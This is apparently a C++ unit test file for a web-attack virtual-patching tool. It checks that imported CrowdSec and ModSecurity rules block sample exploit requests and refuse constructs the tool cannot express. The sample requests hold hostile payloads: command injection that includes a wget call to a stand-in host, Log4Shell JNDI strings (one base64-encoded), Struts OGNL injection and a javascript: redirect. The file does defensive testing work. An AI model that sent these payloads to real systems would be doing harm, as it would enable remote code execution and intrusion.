// The importers (importers/): test rules written for mitigd in CrowdSec's and ModSecurity's formats
// become manifests that mitigd's parser accepts and that block their exploits, and only those, in
// the rule core; constructs mitigd cannot express are refused by name.
#include "importers/crowdsec.hpp"
#include "importers/modsecurity.hpp"
#include "policies/manifest.hpp"
#include "policies/rule_eval.hpp"

#include <catch2/catch.hpp>

#include <fstream>
#include <sstream>

using namespace mitigd;

namespace {

std::string read(const std::string& rel) {
  std::ifstream in(std::string(MITIGD_SOURCE_DIR) + "/tests/importers/" + rel);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

importers::ManifestMeta meta() {
  importers::ManifestMeta m;
  m.product = "filemanager";
  m.fixed_in = "2.0.0";
  return m;
}

Manifest imported(const std::string& format, const std::string& rel, importers::ManifestMeta m = meta()) {
  std::string text = format == "crowdsec" ? importers::import_crowdsec(rel, read(rel), m) : importers::import_modsecurity(rel, read(rel), m);
  auto parsed = parse_manifest(rel, text);
  REQUIRE(parsed);
  return *parsed;
}

bool blocked(const Manifest& m, HttpRequest r) { return evaluate_request(m, r).blocked; }

HttpRequest form(const std::string& target, const std::string& body) {
  return HttpRequest{"POST", target, {{"Content-Type", "application/x-www-form-urlencoded"}}, body};
}

std::string refusal(const std::string& format, const std::string& rel) {
  try {
    importers::ManifestMeta m = meta();
    m.id = "X1";
    if (format == "crowdsec") importers::import_crowdsec(rel, read(rel), m);
    else importers::import_modsecurity(rel, read(rel), m);
  } catch (const importers::Refused& e) {
    return e.what();
  }
  return "";
}

}  // namespace

TEST_CASE("import crowdsec: and, zones times variables, a decoded URI, CVE ids from labels", "[importers]") {
  Manifest m = imported("crowdsec", "crowdsec/upload-servlet.yaml");
  CHECK(m.id == "vpatch-CVE-2099-0001");
  CHECK(m.cves == std::vector<std::string>{"CVE-2099-0001"});
  CHECK(m.actions.size() == 4);  // (body_arg, arg) x (cmd, command)
  CHECK(blocked(m, form("/app/FileManager/servlet", "dir=/tmp&cmd=ls;id")));
  CHECK(blocked(m, form("/app/filemanager/servlet?command=x%7Cwget+http://e/", "a=1")));
  CHECK(blocked(m, form("/app/file%4danager/servlet", "CMD=%60uname")));  // URI decoded, argument names folded
  CHECK_FALSE(blocked(m, form("/app/filemanager/servlet", "cmd=identity")));
  CHECK_FALSE(blocked(m, form("/app/other", "cmd=;id")));
  CHECK_FALSE(blocked(m, HttpRequest{"GET", "/app/filemanager/servlet?cmd=;id"}));
}

TEST_CASE("import crowdsec: or, any header, base64 and length", "[importers]") {
  Manifest m = imported("crowdsec", "crowdsec/header-jndi.yaml");
  CHECK(m.actions.size() == 3);
  CHECK(blocked(m, HttpRequest{"GET", "/", {{"X-Api-Version", "JHtqbmRpOmxkYXA6Ly9lL2F9"}}}));  // ${jndi:ldap://e/a}
  CHECK(blocked(m, HttpRequest{"GET", "/", {{"Referer", "x"}, {"Referer", "${JNDI:ldap://e}"}}}));
  CHECK(blocked(m, HttpRequest{"GET", "/", {{"X-Auth-Token", std::string(5000, 'a')}}}));
  CHECK_FALSE(blocked(m, HttpRequest{"GET", "/", {{"X-Auth-Token", std::string(4096, 'a')}, {"X-Api-Version", "1.2"}}}));
}

TEST_CASE("import crowdsec: what mitigd cannot express is refused by name", "[importers]") {
  CHECK_THAT(refusal("crowdsec", "crowdsec/refused-libinjection.yaml"),
             Catch::Contains("rules[0].match.type") && Catch::Contains("libinjectionSQL") && Catch::Contains("tokenizer"));
  CHECK_THAT(refusal("crowdsec", "crowdsec/refused-json.yaml"), Catch::Contains("json.address.data"));
}

TEST_CASE("import modsecurity: chains, variable lists, t:length, status and msg", "[importers]") {
  importers::ManifestMeta mm = meta();
  mm.id = "STRUTS1";
  Manifest m = imported("modsecurity", "modsecurity/struts-ognl.conf", mm);
  CHECK(m.cves == std::vector<std::string>{"CVE-2099-0002"});
  CHECK(m.title.find("OGNL in an upload") != std::string::npos);
  CHECK(m.actions.size() == 5);  // 2 (FILES | header) + 2 (ARGS: query, body) + 1
  HttpRequest upload{"POST", "/upload.action", {{"Content-Type", "multipart/form-data; boundary=b"}},
                     "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"%{(#a=1)}\"\r\n\r\nx\r\n--b--\r\n"};
  CHECK(blocked(m, upload));
  CHECK(blocked(m, HttpRequest{"POST", "/x.action", {{"Content-Type", "%{(#_='multipart/form-data')}"}}}));
  CHECK_FALSE(blocked(m, HttpRequest{"POST", "/x.do", {{"Content-Type", "%{(#_='multipart/form-data')}"}}}));
  CHECK(blocked(m, HttpRequest{"GET", "/login?redirect=JavaScript:alert(1)"}));
  CHECK(blocked(m, form("/login", "redirect=javascript%3Aalert(1)")));
  CHECK_FALSE(blocked(m, HttpRequest{"GET", "/login?redirect=/home"}));
  CHECK(blocked(m, HttpRequest{"GET", "/", {{"X-Api-Key", std::string(513, 'k')}}}));
  CHECK_FALSE(blocked(m, HttpRequest{"GET", "/", {{"X-Api-Key", std::string(512, 'k')}}}));
}

TEST_CASE("import modsecurity: what mitigd cannot express is refused by name", "[importers]") {
  CHECK_THAT(refusal("modsecurity", "modsecurity/refused-pm.conf"), Catch::Contains("refused-pm.conf:2") && Catch::Contains("!ARGS:safe"));
  CHECK_THAT(refusal("modsecurity", "modsecurity/refused-transform.conf"), Catch::Contains("t:htmlEntityDecode"));
}

TEST_CASE("import modsecurity: a line of other whitespace is blank (found by fuzzing: read past the words)", "[importers]") {
  importers::ManifestMeta m = meta();
  m.id = "WS1";
  std::string text = "\v\n \f\nSecRule ARGS:q \"@contains <script\" \"id:1,deny\"\n";
  CHECK_NOTHROW(importers::import_modsecurity("ws.conf", text, m));
  CHECK_THROWS_AS(importers::import_modsecurity("ws.conf", "\v\n", m), importers::Refused);
}
